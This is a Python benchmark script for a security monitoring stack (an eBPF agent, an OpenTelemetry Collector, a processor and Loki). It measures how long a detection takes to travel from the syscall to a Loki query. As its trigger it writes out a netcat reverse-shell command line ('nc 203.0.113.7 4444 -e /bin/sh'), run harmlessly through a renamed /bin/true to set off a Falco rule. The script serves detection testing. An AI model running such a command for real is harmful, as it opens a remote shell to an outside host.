"""Syscall -> detection queryable in Loki, on the real servers with the shipped Collector configs.

Pipeline (a), everything real: a process in a kubepods-shaped cgroup execs ``nc ... -e /bin/sh``
-> ``otelguard agent`` (eBPF, scoped to ``/kubepods.slice``) -> Collector (backends.yaml +
gateway.yaml, unchanged) -> ``otelguard processor`` (Falco's stable rules flag "Netcat Remote Code
Execution in Container") -> Collector -> Loki. Each trigger is a Python child that takes
``time.time_ns()`` just before its ``execve`` of nc (the ``nc`` is ``/bin/true`` under that
name: the exec is what the rule sees) and carries a unique marker in its command line; one
poller queries Loki every ``--poll-ms`` for all markers of the run and records when each first
shows up. Latency = first seen in Loki - the child's timestamp; the poll period adds up to
``--poll-ms`` (half on average).

Triggers are paced (``--interval``, default 1 s) so each measures the path, not a queue: the
default noise_control stage allows 1 new detection/s per rule and workload (burst 20), and each
command line is unique, so none is collapsed. The detection record's ``observed_timestamp`` (set
by the processor when it made the detection, kept by Loki as structured metadata) splits each
latency into "syscall -> processor" and "processor -> queryable in Loki".

Run as root, with the stack built (``make stack-build``)::

    .venv/bin/python -m bench.detection_latency            # N=30
    .venv/bin/python -m bench.detection_latency --quick    # N=5

Costs ~1 min for the stack and the agent's BCC compile, then ``N x interval``.
"""

from __future__ import annotations

import argparse
import os
import shutil
import sys
import tempfile
import threading
import time
import uuid
from pathlib import Path
from typing import Any, Optional

import yaml

from bench.common import machine_line, summary_line

RULE = "Netcat Remote Code Execution in Container"
# Launches nc with a timestamp taken just before the execve, written first on stdout.
CHILD = ("import os, sys, time\n"
         "t = time.time_ns()\n"
         "os.write(1, b'%d\\n' % t)\n"
         "os.execv(sys.argv[1], [sys.argv[1], *sys.argv[2:]])\n")


def percentile(values: list[float], q: float) -> float:
    """Nearest-rank percentile (q in 0..100) of a non-empty list."""
    s = sorted(values)
    k = max(0, min(len(s) - 1, int(round(q / 100.0 * len(s) + 0.5)) - 1))
    return s[k]


class LokiPoller(threading.Thread):
    """Queries Loki for the run's detections every ``period_s``; first-seen wall time per marker."""

    def __init__(self, loki: Any, run_id: str, period_s: float) -> None:
        super().__init__(name="loki-poller", daemon=True)
        self.loki, self.run_id, self.period_s = loki, run_id, period_s
        self.seen: dict[str, float] = {}               # marker -> time.time() first seen
        self.observed: dict[str, int] = {}             # marker -> detection observed_timestamp (ns)
        self.queries = 0
        self.errors = 0
        self.stop_event = threading.Event()

    def run(self) -> None:
        q = f'{{otelguard_stream="detection"}} |= "{self.run_id}"'
        while not self.stop_event.is_set():
            try:
                data = self.loki.query_range(q, since_s=900, limit=5000)
                now = time.time()
                self.queries += 1
                for stream in data["result"]:
                    meta = stream["stream"]
                    for _, line in stream["values"]:
                        for tok in line.split():
                            if tok.startswith(self.run_id):
                                marker = tok.strip("\"'(),")
                                self.seen.setdefault(marker, now)
                                obs = meta.get("observed_timestamp")
                                if obs and obs.isdigit():
                                    self.observed.setdefault(marker, int(obs))
            except Exception:  # a slow or refused query: count it and poll again
                self.errors += 1
            self.stop_event.wait(self.period_s)


def scoped_agent(stack: Any, workdir: Path, endpoint: str, flush_s: Optional[float],
                 tls_args: list[str]) -> Any:
    """``otelguard agent`` scoped to /kubepods.slice, ready once its probes are attached;
    ``flush_s`` overrides the exporter's flush_interval_s (default config otherwise)."""

    class ScopedAgent(stack.Component):  # type: ignore[misc]  # base class from a lazy import
        name = "otelguard-agent"
        ready_timeout = 240.0

        def __init__(self) -> None:
            super().__init__(workdir)
            self.metrics = f"127.0.0.1:{stack.free_port()}"
            self.config = workdir / "agent.yaml"
            doc: dict[str, Any] = {"sensor": {"cgroup_scope": ["/kubepods.slice"]}}
            if flush_s is not None:
                doc["exporter"] = {"flush_interval_s": flush_s}
            self.config.write_text(yaml.safe_dump(doc))

        def command(self) -> list[str]:
            return [str(Path(sys.executable).parent / "otelguard"), "agent", "--config", str(self.config),
                    "--otlp-endpoint", endpoint, *tls_args, "--metrics", self.metrics,
                    "--spool-dir", str(workdir / "spool"), "--spool-max-bytes", str(64 << 20)]

        def ready(self) -> bool:
            # /metrics answers before BCC has compiled; the log line comes after the attach
            return "sensor started" in self.log_tail(200) and \
                stack.http_get(f"http://{self.metrics}/metrics", 2.0)[0] == 200

    return ScopedAgent()


def measure(n: int, interval_s: float, poll_s: float, timeout_s: float, workdir: Path,
            agent_flush_s: Optional[float] = None) -> dict[str, Any]:
    from tests.ebpf.containers import container
    from tests.support import stack

    started: list[Any] = []
    try:
        loki = stack.Loki(workdir / "loki")
        jaeger = stack.Jaeger(workdir / "jaeger")
        for comp in (loki, jaeger):
            comp.start()
            started.append(comp)
        from tests.support.certs import GatewayTls

        tls = GatewayTls.create(workdir / "pki")  # gateway.yaml's hops are TLS with tokens
        col = stack.Collector(workdir / "otelcol", [stack.BACKENDS_CONFIG, stack.GATEWAY_CONFIG],
                              stack.backends_env(loki, jaeger), tap=False, tls=tls)
        proc = stack.ProcessorService(workdir / "processor", export=col.otlp_grpc,
                                      listen_tls=tls.processor_args(),
                                      export_tls=tls.processor_export_args())
        col.env["OTELGUARD_PROCESSOR_ENDPOINT"] = proc.endpoint
        agent = scoped_agent(stack, workdir / "agent", col.agents_grpc, agent_flush_s,
                             tls.agent_args())
        for later in (proc, col, agent):
            t = time.monotonic()
            later.start()
            started.append(later)
            print(f"  {later.name} ready in {time.monotonic() - t:.1f}s", flush=True)

        nc = workdir / "nc"
        shutil.copy("/bin/true", nc)
        run_id = "lat" + uuid.uuid4().hex[:10]
        poller = LokiPoller(loki, run_id, poll_s)
        poller.start()
        sent: dict[str, int] = {}                       # marker -> ns before the execve
        with container() as c:
            keeper = c.popen(["/bin/sleep", str(int(n * interval_s + timeout_s + 120))])
            try:
                # one unmeasured trigger: the agent resolves the new cgroup, the processor warms up
                warm = f"{run_id}-warm"
                c.run([sys.executable, "-c", CHILD, str(nc), "203.0.113.7", "4444", "-e", "/bin/sh", warm],
                      check=True)
                deadline = time.monotonic() + timeout_s
                while warm not in poller.seen and time.monotonic() < deadline:
                    time.sleep(0.1)
                if warm not in poller.seen:
                    raise RuntimeError(f"the warm-up detection never reached Loki in {timeout_s}s; "
                                       f"agent log:\n{agent.log_tail()}\nprocessor log:\n{proc.log_tail()}")
                for i in range(n):
                    marker = f"{run_id}-{i:03d}"
                    child = c.run([sys.executable, "-c", CHILD, str(nc), "203.0.113.7", "4444", "-e",
                                 "/bin/sh", marker], check=True)
                    sent[marker] = int(child.stdout.split()[0])
                    time.sleep(interval_s)
                deadline = time.monotonic() + timeout_s
                while not set(sent) <= set(poller.seen) and time.monotonic() < deadline:
                    time.sleep(0.1)
            finally:
                keeper.kill()
                keeper.wait()
        poller.stop_event.set()
        poller.join(5)
    finally:
        for comp in reversed(started):
            comp.stop()

    lat = {m: poller.seen[m] - sent[m] / 1e9 for m in sent if m in poller.seen}
    to_proc = [(poller.observed[m] - sent[m]) / 1e9 for m in lat if m in poller.observed]
    vals = list(lat.values())
    out: dict[str, Any] = {"n": n, "found": len(vals), "missing": sorted(set(sent) - set(lat)),
                           "poll_ms": poll_s * 1000, "interval_s": interval_s,
                           "queries": poller.queries, "query_errors": poller.errors,
                           "agent_flush_s": agent_flush_s if agent_flush_s is not None else "default"}
    if vals:
        out.update({f"p{q}_s": round(percentile(vals, q), 3) for q in (50, 95, 99)})
        out["max_s"] = round(max(vals), 3)
        out["min_s"] = round(min(vals), 3)
    if to_proc:
        out["to_processor_p50_s"] = round(percentile(to_proc, 50), 3)
        out["to_processor_p99_s"] = round(percentile(to_proc, 99), 3)
        after = [lat[m] - (poller.observed[m] - sent[m]) / 1e9 for m in lat if m in poller.observed]
        out["processor_to_loki_p50_s"] = round(percentile(after, 50), 3)
        out["processor_to_loki_p99_s"] = round(percentile(after, 99), 3)
    return out


def main(argv: Optional[list[str]] = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("-n", type=int, default=30, help="measured triggers")
    ap.add_argument("--quick", action="store_true", help="N=5")
    ap.add_argument("--interval", type=float, default=1.0, help="seconds between triggers")
    ap.add_argument("--poll-ms", type=float, default=50.0, help="Loki poll period")
    ap.add_argument("--timeout", type=float, default=60.0, help="seconds to wait for the last detection")
    ap.add_argument("--agent-flush", type=float, default=None,
                    help="agent exporter flush_interval_s (default: the shipped 0.5 s); the "
                         "Collector configs are never changed")
    args = ap.parse_args(argv)
    if os.geteuid() != 0:
        print("detection_latency: needs root (eBPF)", file=sys.stderr)
        return 2
    n = 5 if args.quick else args.n
    print(machine_line(), flush=True)
    with tempfile.TemporaryDirectory(prefix="otelguard-latency-") as tmp:
        res = measure(n, args.interval, args.poll_ms / 1000.0, args.timeout, Path(tmp), args.agent_flush)
    print(f"syscall -> detection queryable in Loki, {res['found']}/{res['n']} found "
          f"(poll every {res['poll_ms']:.0f} ms, one trigger per {res['interval_s']} s, "
          f"agent flush {res['agent_flush_s']}):")
    if res["found"]:
        print(f"  p50 {res['p50_s']:.3f} s  p95 {res['p95_s']:.3f} s  p99 {res['p99_s']:.3f} s  "
              f"max {res['max_s']:.3f} s  min {res['min_s']:.3f} s")
    if "to_processor_p50_s" in res:
        print(f"  syscall -> processor made the detection: p50 {res['to_processor_p50_s']:.3f} s, "
              f"p99 {res['to_processor_p99_s']:.3f} s")
        print(f"  processor -> queryable in Loki:         p50 {res['processor_to_loki_p50_s']:.3f} s, "
              f"p99 {res['processor_to_loki_p99_s']:.3f} s")
    if res["missing"]:
        print(f"  MISSING after the timeout: {res['missing']}")
    print(summary_line("detection_latency", res))
    return 0 if not res["missing"] and res["found"] else 1


if __name__ == "__main__":
    sys.exit(main())
